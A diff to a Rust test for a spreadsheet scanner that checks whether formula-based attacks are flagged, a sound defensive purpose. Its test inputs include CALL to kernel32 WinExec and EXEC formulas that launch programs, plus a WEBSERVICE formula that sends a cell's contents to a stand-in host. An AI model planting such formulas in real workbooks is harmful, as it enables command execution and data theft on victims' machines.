@@ -434,6 +434,9 @@ fn workbooks_elsewhere_in_formulas_and_formulas_of_names_are_reported() {
 fn a_formula_that_calls_a_library_is_reported_and_one_that_fetches_is_told() {
     for (formula, reported) in [
         ("CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)", Some("ooxml.library-formula")),
+        ("CALL(B1,B2,B3,B4,1)", Some("ooxml.library-formula")),
+        ("IF(1,EXEC(\"calc\"),0)", Some("ooxml.library-formula")),
+        ("\"CALL(B1)\"&amp;B2", None),
         ("RTD(\"a.b\",\"host.invalid\",\"c\")", Some("ooxml.library-formula")),
         ("_xlfn.WEBSERVICE(\"https://host.invalid/?\"&amp;A1)", Some("ooxml.web-formula")),
         ("RTD(\"a.b\",,\"c\")", None),
